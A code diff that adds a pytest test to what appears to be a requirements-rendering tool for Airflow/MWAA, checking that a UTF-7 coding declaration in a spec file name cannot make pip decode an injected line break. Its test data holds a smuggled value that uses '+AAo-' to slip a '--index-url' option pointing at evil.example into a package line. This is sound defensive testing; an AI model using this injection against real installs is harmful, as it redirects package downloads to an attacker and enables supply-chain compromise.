@@ -71,6 +71,24 @@ def test_mwaa_requirements_read_back_by_pip_are_exactly_the_packages(
     assert len(kept) == len(HOSTILE) - len(EVERY_TARGET)
 
 
+@pytest.mark.parametrize("name", ["coding=utf-7 x.yaml", "-*- coding: utf-7 -*-.yaml"])
+def test_a_spec_file_name_cannot_change_how_pip_decodes_requirements(
+    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """pip decodes requirements.txt in the encoding a comment in its first two lines declares (PEP 263);
+    in UTF-7, `+AAo-` is a line break, which would make an option line of a valid package."""
+    package = "p @ https://e.com/x+AAo---index-url=https://evil.example/simple"
+    example = (EXAMPLES / "mwaa" / "airflowspec.yaml").read_text(encoding="utf-8")
+    spec = tmp_path / name
+    spec.write_text(re.sub(r"packages:\n(  - .*\n)+", lambda _: packages_yaml([package]), example), encoding="utf-8")
+    validation, artifacts = api.render(spec, "mwaa")
+    assert validation.ok, validation.diagnostics
+    requirements = tmp_path / "requirements.txt"
+    requirements.write_bytes(next(a.text for a in artifacts if a.path == "requirements.txt").encode("utf-8"))
+    read, options = pip_reads(requirements, monkeypatch)
+    assert (read, [option.split()[0] for option in options]) == ([meaning(package)], ["--constraint"])
+
+
 def test_community_echo_lines_write_exactly_the_packages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """The chart's template line, `echo {{ . | squote }} >> requested-packages.txt`, built as Helm builds it."""
     kept = _validated(spec_text(HOSTILE, "2.8.4", COMMUNITY), tmp_path, monkeypatch)
